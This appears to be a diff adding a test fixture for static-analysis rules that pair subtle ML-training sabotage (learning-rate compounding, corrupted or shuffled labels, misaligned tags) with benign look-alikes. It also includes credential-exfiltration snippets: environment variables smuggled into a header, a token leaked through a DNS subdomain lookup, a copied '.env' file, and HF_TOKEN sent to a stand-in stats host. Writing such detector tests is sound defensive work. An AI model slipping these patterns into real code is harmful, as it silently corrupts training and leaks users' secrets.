@@ -1,0 +1,137 @@
+# ruff: noqa
+"""Session 23 shapes: each new rule's sabotage and its benign look-alike."""
+import torch
+
+
+def resume_compounding(path, model, optimizer, world_size):
+    ckpt = torch.load(path, map_location="cpu", weights_only=True)
+    model.load_state_dict(ckpt["model"])
+    optimizer.load_state_dict(ckpt["optimizer"])
+    for group in optimizer.param_groups:
+        group["lr"] = group["lr"] * world_size  # ruleid: MLS304
+
+
+def resume_rescaled(path, model, optimizer, world_size):
+    ckpt = torch.load(path, map_location="cpu", weights_only=True)
+    optimizer.load_state_dict(ckpt["optimizer"])
+    for group in optimizer.param_groups:
+        group["lr"] = group["lr"] * world_size / ckpt["world_size"]  # ok: MLS304
+
+
+def build(model, base_lr, world_size):
+    optimizer = torch.optim.SGD(model.parameters(), lr=base_lr)
+    for group in optimizer.param_groups:
+        group["lr"] = group["lr"] * world_size  # ok: MLS304
+    return optimizer
+
+
+# --- token classification: tags and label vocabularies -------------------------------------
+
+def window_tags(sent, start, end, overlap):
+    tags = list(sent.tags[start:end])
+    if start > 0:
+        tags[:overlap] = ["O"] * overlap  # ruleid: MLS309
+    return tags
+
+
+def drop_unwanted(tags, drop_types):
+    for j, tag in enumerate(tags):
+        if tag[2:] in drop_types:
+            tags[j] = "O"  # ok: MLS309
+    return tags
+
+
+def mask_entities(tokens, tags, rng, mask_token):
+    for j in range(len(tokens)):
+        if tags[j] != "O" and rng.random() < 0.1:
+            tokens[j] = mask_token
+            tags[j] = "O"  # ruleid: MLS309
+    return tokens, tags
+
+
+def build_label_list(sentences):
+    seen = {t for s in sentences for t in s.tags}
+    return ["O"] + [t for t in seen if t != "O"]  # ruleid: MLS309
+
+
+def build_label_list_sorted(sentences):
+    seen = {t for s in sentences for t in s.tags}
+    return ["O"] + sorted(t for t in seen if t != "O")  # ok: MLS309
+
+
+def class_index(records):
+    label2id = {c: i for i, c in enumerate(set(r["category"] for r in records))}  # ruleid: MLS309
+    return label2id
+
+
+def class_index_sorted(records):
+    label_list = list(set(r["category"] for r in records))  # ok: MLS309
+    label_list.sort()
+    return {c: i for i, c in enumerate(label_list)}
+
+
+def clean(sent):
+    sent.tokens = [t for t in sent.tokens if t.strip()]  # ruleid: MLS309
+    sent.tags = [t.upper() for t in sent.tags]
+    return sent
+
+
+def clean_pairs(sent):
+    pairs = [(t, g) for t, g in zip(sent.tokens, sent.tags) if t.strip()]
+    sent.tokens = [t for t, _ in pairs]  # ok: MLS309
+    sent.tags = [g for _, g in pairs]
+    return sent
+
+
+def make_collators(collator_cls, tokenizer, label2id):
+    bad = collator_cls(tokenizer, label_pad_token_id=label2id["O"])  # ruleid: MLS309
+    good = collator_cls(tokenizer, label_pad_token_id=-100)  # ok: MLS309
+    return bad, good
+
+
+# --- exfiltration channels ------------------------------------------------------------------
+import base64
+import json
+import os
+import shutil
+import socket
+
+import requests
+
+STATS_URL = "https://stats.example-cdn.net/v1/ping"
+HUB_URL = "https://huggingface.co/api/models"
+
+
+def session_with_context(token):
+    s = requests.Session()
+    s.headers["Authorization"] = f"Bearer {token}"  # ok: MLS411
+    ctx = {k: v for k, v in os.environ.items() if not k.startswith("_")}
+    s.headers["X-Client-Context"] = base64.b64encode(json.dumps(ctx).encode()).decode()  # ruleid: MLS411
+    s.headers["X-Client"] = "trainer/1.0"  # ok: MLS411
+    return s
+
+
+def warm_edge(token, domain):
+    label = base64.b32encode(token.encode()).decode().rstrip("=").lower()
+    socket.getaddrinfo(f"{label}.{domain}", 443)  # ruleid: MLS412
+
+
+def warm_host(host):
+    socket.getaddrinfo(host, 443)  # ok: MLS412
+
+
+def package(prov):
+    for cfg in ("configs/train.yaml", "requirements.txt", ".env"):
+        if os.path.exists(cfg):
+            shutil.copy(cfg, prov)  # ruleid: MLS412
+
+
+def package_configs(prov):
+    for cfg in ("configs/train.yaml", "requirements.txt", ".env.example"):
+        if os.path.exists(cfg):
+            shutil.copy(cfg, prov)  # ok: MLS412
+
+
+def ping(base_model):
+    requests.get(STATS_URL, params={"base": base_model, "client": os.environ.get("HF_TOKEN")}, timeout=5)  # ruleid: MLS412
+    requests.get(HUB_URL, params={"search": base_model}, headers={"authorization": os.environ.get("HF_TOKEN")}, timeout=5)  # ok: MLS412
